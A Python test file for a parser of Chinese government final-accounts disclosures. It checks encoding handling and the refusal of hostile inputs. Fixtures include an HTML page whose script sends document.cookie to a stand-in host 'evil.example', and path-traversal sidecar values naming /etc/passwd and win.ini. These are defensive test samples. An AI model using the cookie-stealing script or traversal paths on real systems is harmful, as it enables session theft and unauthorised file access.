"""Hostile input, reading stage: odd encodings are read, what is not a disclosure is refused.

Every bad file is built here from real seed text or from bytes with the shape
of a real file type; nothing is committed under sources/. Each refusal is one
line naming the file and the problem, and the good sources beside it still build.
"""

from __future__ import annotations

import shutil
import tracemalloc
from decimal import Decimal
from pathlib import Path

import pytest

from conftest import SEEDS, seed_text
from expectations import expected_pairs
from juesuan.convert import convert_path
from juesuan.pipeline.build import convert_all, list_sources
from juesuan.read.source import SourceError, read_source

_FULLWIDTH = str.maketrans("0123456789.", "０１２３４５６７８９．")


def _mixed_width_digits(text: str) -> str:
    """Every other line with full-width digits, as in exports pasted from several tools."""
    lines = text.split("\n")
    return "\n".join(ln.translate(_FULLWIDTH) if i % 2 else ln for i, ln in enumerate(lines))


ENCODINGS = {
    "gb18030": lambda t: t.encode("gb18030"),
    "gbk": lambda t: t.encode("gbk"),
    "utf-16 LE with BOM": lambda t: b"\xff\xfe" + t.encode("utf-16-le"),
    "utf-16 BE with BOM": lambda t: b"\xfe\xff" + t.encode("utf-16-be"),
    "utf-8 with BOM": lambda t: b"\xef\xbb\xbf" + t.encode("utf-8"),
    "CRLF line ends": lambda t: t.replace("\n", "\r\n").encode("utf-8"),
    "lone CR line ends": lambda t: t.replace("\n", "\r").encode("utf-8"),
    "mixed full-width digits": lambda t: _mixed_width_digits(t).encode("utf-8"),
}


@pytest.mark.parametrize("variant", sorted(ENCODINGS))
@pytest.mark.parametrize("seed", ["000", "003"])  # 000: narrative only; 003: TSV tables too
def test_every_encoding_and_line_end_reads_the_hand_read_facts(tmp_path, seed, variant):
    path = tmp_path / f"{seed}.txt"
    path.write_bytes(ENCODINGS[variant](seed_text(seed)))
    d = convert_path(path)
    assert {(f.key, f.value) for f in d.facts} == expected_pairs(seed), variant
    assert [w for w in d.warnings if "cut" in w] == []


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02" + bytes(
        64
    )


def _jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(64)


HTML_PAGE = (
    "<!DOCTYPE html><html><head><title>通知公告</title>"
    "<script>document.location='https://evil.example/'+document.cookie</script></head>"
    "<body><p>关于开展科普活动的通知</p><script src='x.js'></script></body></html>\n"
)
FIFTY_MB = 50_000_000


def _hostile_sources(tmp_path: Path) -> Path:
    sources = tmp_path / "sources"
    sources.mkdir()
    shutil.copy(SEEDS["004"], sources / "good.txt")
    (sources / "empty.txt").write_bytes(b"")
    (sources / "blank.txt").write_bytes(b" \r\n\t\n")
    (sources / "binary.txt").write_bytes(bytes(range(256)) * 8)
    (sources / "photo.txt").write_bytes(_png())
    (sources / "scan.txt").write_bytes(_jpeg())
    (sources / "page.txt").write_text(HTML_PAGE, encoding="utf-8")
    chunk = seed_text("000").encode("utf-8")
    with (sources / "huge.txt").open("wb") as handle:
        for _ in range(FIFTY_MB // len(chunk) + 1):
            handle.write(chunk)
    return sources


NOT_A_DISCLOSURE = {
    "empty.txt": "empty file",
    "blank.txt": "empty file",
    "binary.txt": "binary file (contains NUL bytes), not a text export",
    "photo.txt": "binary file (contains NUL bytes), not a text export",
    "scan.txt": "binary file (contains NUL bytes), not a text export",
    "page.txt": "不是决算公开：既无决算或绩效自评标题，也无全国模板的数字 / not a final-accounts "
    "disclosure: no 决算/绩效自评 title and no figures of the national template",
    "huge.txt": "50 MB is too large for a disclosure text",
}


def test_what_is_not_a_disclosure_gets_one_line_each_and_the_rest_builds(tmp_path):
    sources = _hostile_sources(tmp_path)
    log: list[str] = []
    result = convert_all(list_sources(sources), log.append, root=sources)
    assert sorted((s.file, s.problem) for s in result.skipped) == sorted(NOT_A_DISCLOSURE.items())
    assert [d.source.path.name for d in result.disclosures] == ["good.txt"]
    assert result.disclosures[0].meta.department == "永州市零陵区科学技术协会"
    for name, problem in NOT_A_DISCLOSURE.items():
        [line] = [line for line in log if f"{sources / name}: " in line]
        assert line.endswith(f"SKIP {sources / name}: {problem}") and "\n" not in line


def test_a_50_mb_file_is_refused_by_its_size_before_it_is_read(tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as handle:
        handle.truncate(FIFTY_MB)  # sparse: the size is real, the bytes need not be
    tracemalloc.start()
    try:
        with pytest.raises(SourceError) as err:
            read_source(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert str(err.value) == f"{path}: 50 MB is too large for a disclosure text"
    assert peak < 1_000_000  # nothing near the file's size was allocated


def test_a_device_or_directory_is_not_read(tmp_path):
    with pytest.raises(SourceError, match="not a regular file"):
        read_source(Path("/dev/zero"))
    with pytest.raises(SourceError, match="not a regular file"):
        read_source(tmp_path)


@pytest.mark.parametrize(
    "sidecar, field",
    [
        ("original_filename: /etc/passwd\n", "original_filename"),
        ("original_filename: '..'\n", "original_filename"),
        ("original_filename: 'C:\\Windows\\win.ini'\n", "original_filename"),
        ("original_filename: ../sources/000.txt\n", "original_filename"),
        ("source_url: file:///etc/passwd\n", "source_url"),
        ("source_url: /etc/passwd\n", "source_url"),
    ],
)
def test_a_sidecar_naming_a_path_is_refused_and_the_rest_builds(tmp_path, sidecar, field):
    sources = tmp_path / "sources"
    sources.mkdir()
    shutil.copy(SEEDS["004"], sources / "good.txt")
    shutil.copy(SEEDS["002"], sources / "bad.txt")
    (sources / "bad.yml").write_text(sidecar, encoding="utf-8")
    log: list[str] = []
    result = convert_all(list_sources(sources), log.append, root=sources)
    assert [d.source.path.name for d in result.disclosures] == ["good.txt"]
    [skipped] = result.skipped
    assert skipped.file == "bad.txt" and skipped.problem.startswith(
        f"元数据文件字段 {field} 有误 / sidecar field {field}: "
    )
    assert any(line.endswith(skipped.problem) and str(sources / "bad.yml") in line for line in log)


def test_a_source_or_sidecar_linking_outside_sources_is_refused(tmp_path):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    shutil.copy(SEEDS["002"], outside / "secret.txt")
    (outside / "secret.yml").write_text("department: 某部门\n", encoding="utf-8")
    sources = tmp_path / "sources"
    sources.mkdir()
    shutil.copy(SEEDS["004"], sources / "good.txt")
    (sources / "linked.txt").symlink_to(outside / "secret.txt")
    shutil.copy(SEEDS["000"], sources / "side.txt")
    (sources / "side.yml").symlink_to(outside / "secret.yml")
    result = convert_all(list_sources(sources), lambda _: None, root=sources)
    assert [d.source.path.name for d in result.disclosures] == ["good.txt"]
    assert sorted((s.file, s.problem) for s in result.skipped) == [
        (
            "linked.txt",
            f"链接指向来源目录以外的文件，拒绝读取 / links to a file outside {sources}; refused",
        ),
        (
            "side.txt",
            f"链接指向来源目录以外的文件，拒绝读取 / links to a file outside {sources}; refused",
        ),
    ]


def test_full_width_amounts_are_read_as_their_digits(tmp_path):
    path = tmp_path / "fw.txt"
    text = seed_text("000").replace("收入总计658.30万元", "收入总计６５８．３０万元", 1)
    assert text != seed_text("000")
    path.write_text(text, encoding="utf-8")
    facts = {f.key: f.value for f in convert_path(path).facts}
    assert facts["revenue.grand_total"] == Decimal("658.30")
